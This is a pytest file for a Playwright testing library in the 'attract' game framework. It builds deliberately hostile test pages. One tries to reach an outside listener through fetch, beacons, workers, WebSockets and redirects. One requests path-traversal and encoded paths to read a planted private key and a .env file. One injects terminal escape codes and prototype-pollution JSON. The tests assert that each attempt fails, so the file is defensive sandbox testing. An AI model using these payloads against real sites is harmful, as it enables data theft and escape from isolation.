"""The library for tests in Playwright Test: the tests that its page documents, and pages that attack it."""

import json
import re
import shlex
import shutil
import sys
from pathlib import Path

import numpy as np
import pytest

from attract.playtest.playwright_test import LIBRARY, WEB
from attract.runs.episodes import written
from attract.schema.base import Seed
from attract.schema.episode_actions import pack_actions
from attract.schema.recorded_episode import EpisodeMarks, EpisodeSeat, RecordedEpisode
from escaping_page import write_attempts, write_page
from playwright_runs import install_playwright, run_playwright
from servers import Listeners, free_port, served_folder
from waiting import slowness

ROOT = Path(__file__).parents[2]
PAGE = ROOT / "docs" / "playwright.md"
MAX_TEST_LINES = 8
MAX_TEST_SECONDS = 5.0
IMPORTS = f'import {{ expect, test }} from "./{LIBRARY}";\n'
MODULE = """
import { box, defineGame, discrete } from "attract";

export default defineGame({
  id: "Line-v1",
  tickSeconds: 0.1,
  observation: box({ low: -1e6, high: 1e6, shape: [1] }),
  action: discrete(["left", "right"]),
  create: () => ({
    place: 0,
    start() {
      this.place = 0;
      return [0];
    },
    update(_: number, action: number) {
      this.place += action === 1 ? 1 : -1;
      return { observation: [this.place], reward: 1, terminated: false };
    },
  }),
});
"""


def documented_tests() -> list[str]:
    blocks = re.findall(r"^```ts\n(.*?)^```$", PAGE.read_text(), re.DOTALL | re.MULTILINE)
    return [block for block in blocks if "\ntest(" in f"\n{block}"]


def episode(actions: list[int]) -> RecordedEpisode:
    """Of Meteors."""
    return RecordedEpisode(
        game_id="Meteors-v1",
        seed=Seed(low=3, high=0),
        instance=0,
        episode=0,
        seats=[EpisodeSeat(player="script")],
        seconds_per_step=4 / 60,
        actions=pack_actions(np.array(actions, dtype=np.uint8)[:, None]),
        marks=EpisodeMarks(interval=1, hashes=""),
        returns=[0.0],
        num_steps=len(actions),
        num_ticks=0,
        end_reason="stopped",
    )


@pytest.mark.alone  # Each has five seconds.
def test_the_ten_documented_tests_are_green_and_short(tmp_path: Path) -> None:
    for name, game in (("dist", "meteors"), ("moles", "moles")):
        shutil.copytree(WEB / "page-games" / game, tmp_path / name)
    shutil.copytree(WEB / "trained" / "meteors", tmp_path / "policy")
    (tmp_path / "src").mkdir()
    (tmp_path / "src" / "game.ts").write_text(MODULE)
    tests = tmp_path / "tests"
    tests.mkdir()
    shutil.copy(WEB / "playwright" / LIBRARY, tests)
    (tests / "01-error.episode.json").write_bytes(written(episode([0, 1, 2] * 10)))
    blocks = documented_tests()
    assert len(blocks) == 10
    assert [block for block in blocks if len(block.strip().splitlines()) > MAX_TEST_LINES] == []
    for number, block in enumerate(blocks):
        use = "" if "test.use" in block else 'test.use({ attract: { page: "../dist" } });\n'
        (tests / f"{number:02d}.spec.ts").write_text(IMPORTS + use + block)
    install_playwright(tmp_path)
    outcomes = run_playwright(tmp_path)
    assert len(outcomes) == len(blocks)
    assert {name: ran.said for name, ran in outcomes.items() if not ran.is_green} == {}
    limit = MAX_TEST_SECONDS * slowness()
    assert {name: ran.seconds for name, ran in outcomes.items() if ran.seconds > limit} == {}


BESIDE_OTHERS = f"""import {{ mergeTests, test as base }} from "@playwright/test";
import {{ expect, test as games }} from "./{LIBRARY}";

const own = base.extend<{{ begun: string }}>({{ begun: async ({{}}, use) => use("playing") }});
const test = mergeTests(own, games);
test.use({{ attract: {{ device: "phone" }} }});

test("a page that webServer serves, beside fixtures of one's own", async ({{ game, page, begun }}) => {{
  await page.goto("/");
  expect(await page.title()).toBe("Meteors");
  await game.press("Space");
  expect(await game.eval("[state, innerWidth, 'ontouchstart' in window]")).toEqual([begun, 412, true]);
  await expect(game.press("Left")).rejects.toThrow("Left is no key's code");
  await expect(game.until("survived < 0", {{ seconds: 1 }})).rejects.toThrow("survived < 0 came as near as");
}});
"""


def test_a_page_of_web_server_is_played_beside_fixtures_of_ones_own(tmp_path: Path) -> None:
    install_playwright(tmp_path)
    shutil.copy(WEB / "playwright" / LIBRARY, tmp_path)
    (tmp_path / "served.spec.ts").write_text(BESIDE_OTHERS)
    address = f"http://127.0.0.1:{(port := free_port())}/"
    folder = shlex.quote(str(WEB / "page-games" / "meteors"))
    serve = f"{shlex.quote(sys.executable)} -m http.server {port} --bind 127.0.0.1 --directory {folder}"
    outcomes = run_playwright(tmp_path, {"baseURL": address}, {"command": serve, "url": address})
    assert {name: ran.said for name, ran in outcomes.items() if not ran.is_green} == {}
    assert len(outcomes) == 1


FIRST_WAYS = """
const attempt = (go) => { try { Promise.resolve(go()).catch(() => 0); } catch {} };
const { document: holder } = parent;
const add = (name, set) => holder.body.append(Object.assign(holder.createElement(name), set));
for (const [kind, at] of [["parent", OUT], ["redirected", `${location.origin}/away`]]) {
  attempt(() => parent.fetch(`${at}/${kind}-fetch`, { mode: "no-cors" }));
  attempt(() => parent.navigator.sendBeacon(`${at}/${kind}-beacon`, "x"));
  attempt(() => parent.eval(`import("${at}/${kind}-import")`));
  attempt(() => parent.open(`${at}/${kind}-open`));
  attempt(() => { new parent.Image().src = `${at}/${kind}-image`; });
  attempt(() => add("iframe", { src: `${at}/${kind}-frame` }));
  attempt(() => add("script", { src: `${at}/${kind}-script` }));
  const thread = `fetch("${at}/${kind}-worker", { mode: "no-cors" })`;
  const blob = new Blob([thread], { type: "text/javascript" });
  attempt(() => new parent.Worker(parent.URL.createObjectURL(blob)));
  attempt(() => new parent.WebSocket(`${at.replace("http", "ws")}/${kind}-socket`));
}
// At last it takes the document away that holds it.
const leaving = [`${OUT}/parent-location`, `${location.origin}/away/redirected-location`];
const go = (all) => all.forEach((url, i) => parent.setTimeout(() => { parent.location = url; }, 300 * i));
parent.setTimeout(go, 1500, leaving);
"""
"""What a page tries by the window around it, which is of its origin, and by redirects of its server."""
PATIENT = """test.use({ attract: { page: PAGE } });

test("a page that tries to leave", async ({ game }) => {
  test.setTimeout(120_000);
  await game.play("random", { seconds: 2 }).catch(() => 0);
  // Frames, workers and connections take real time.
  await new Promise((resolve) => setTimeout(resolve, 4000));
  await game.step(10).catch(() => 0);
});
"""


def write_leaving_page(folder: Path, heard: Listeners) -> None:
    folder.mkdir()
    text = f'const OUT = "http://127.0.0.1:{heard.tcp}"; {FIRST_WAYS}'
    (folder / "index.html").write_text(f"<!doctype html><title>Leaves</title><script>{text}</script>")


# A server's pages have ways besides: redirects, and files that no route sees.
@pytest.mark.parametrize("served", [pytest.param(False, marks=pytest.mark.long), True])
def test_a_hostile_page_reaches_no_address(tmp_path: Path, served: bool) -> None:
    install_playwright(tmp_path)
    shutil.copy(WEB / "playwright" / LIBRARY, tmp_path)
    with Listeners() as heard:
        (tmp_path / "all").mkdir()
        write_page(tmp_path / "all")
        write_attempts(tmp_path / "all", heard)
        write_leaving_page(tmp_path / "leaving", heard)
        with served_folder(tmp_path, away=f"http://127.0.0.1:{heard.tcp}") as address:
            for name in ("all", "leaving"):
                page = json.dumps(f"{address}/{name}/index.html" if served else name)
                (tmp_path / f"{name}.spec.ts").write_text(IMPORTS + PATIENT.replace("PAGE", page))
            outcomes = run_playwright(tmp_path)
        assert {name: ran.said for name, ran in outcomes.items() if not ran.is_green} == {}
        assert (heard.requests, heard.connections, heard.datagrams) == (set(), 0, 0)


STEALING = """<!doctype html><title>Steals</title><script>
const stolen = {};
const keep = async (path, answer) => { stolen[path] = `${answer.status} ${await answer.text()}`; };
for (const path of PATHS) fetch(path).then((answer) => keep(path, answer));
</script>"""
LYING = r"""<!doctype html><title>Lies</title><script>
const text = "\u001b[2J\u0007gone\n::error::lie ".repeat(10_000);
const deep = JSON.parse('{"a":'.repeat(500) + "1" + "}".repeat(500));
const lie = (given) => ({ value: { text, deep, ...given }, failure: null, errors: Array(10_000).fill(text) });
const answers = [
  () => lie(JSON.parse('{ "__proto__": { "polluted": 1 }, "constructor": { "prototype": { "a": 1 } } }')),
  () => ({ value: null, failure: text, errors: { length: 4e9 } }),
  () => undefined,
  () => "no answer",
];
let asked = 0;
// The game is opened first.
parent.attractGame.obey = async () => answers[Math.max(0, asked++ - 1)]?.() ?? null;
</script>"""
PLAIN = r"""
test("what it says is data", async ({ game }) => {
  const said = [];
  for (let turn = 0; turn < 5; turn++) {
    said.push(await game.eval("1").catch((error) => error.message));
    expect(game.errors.length).toBeLessThanOrEqual(64);
    said.push(...game.errors);
  }
  const all = JSON.stringify(said);
  expect(all).toContain("gone");
  expect(all).toContain("took the document away");
  expect(all.length).toBeLessThan(400_000);
  expect(said.every((one) => !/[\u0000-\u001f\u007f-\u009f]/.test(JSON.stringify(one)))).toBe(true);
  expect(all).not.toContain("u001b");
  expect(({} as { polluted?: number }).polluted).toBeUndefined();
});
"""


def test_a_hostile_page_gets_no_file_and_says_nothing_but_data(tmp_path: Path) -> None:
    install_playwright(tmp_path)
    shutil.copy(WEB / "playwright" / LIBRARY, tmp_path)
    (tmp_path / "key.txt").write_text("PRIVATE KEY")
    site = tmp_path / "steals"
    site.mkdir()
    (site / "own.txt").write_text("OWN FILE")
    (site / ".env").write_text("PRIVATE KEY")
    (site / "link.txt").symlink_to(tmp_path / "key.txt")
    up = "/" + "..%2f" * 12 + str(tmp_path / "key.txt")[1:].replace("/", "%2f")
    paths = ["/own.txt", up, "/..%2fkey.txt", "/%2e%2e/key.txt", "/..%5ckey.txt", "/link.txt", "/.env",
             "/%2eenv", "/own.txt%00", f"file://{tmp_path}/key.txt"]  # fmt: skip
    (site / "index.html").write_text(STEALING.replace("PATHS", json.dumps(paths)))
    (tmp_path / "lies").mkdir()
    (tmp_path / "lies" / "index.html").write_text(LYING)
    stolen = """
test("its own files alone", async ({ game }) => {
  await game.step(30);
  const stolen = JSON.stringify(await game.eval("stolen"));
  expect(stolen).toContain("200 OWN FILE");
  expect(stolen).not.toContain("PRIVATE");
});
"""
    for name, text in (("steals", stolen), ("lies", PLAIN)):
        use = f'test.use({{ attract: {{ page: "{name}" }} }});\n'
        (tmp_path / f"{name}.spec.ts").write_text(IMPORTS + use + text)
    outcomes = run_playwright(tmp_path)
    assert {name: ran.said for name, ran in outcomes.items() if not ran.is_green} == {}
    assert len(outcomes) == 2
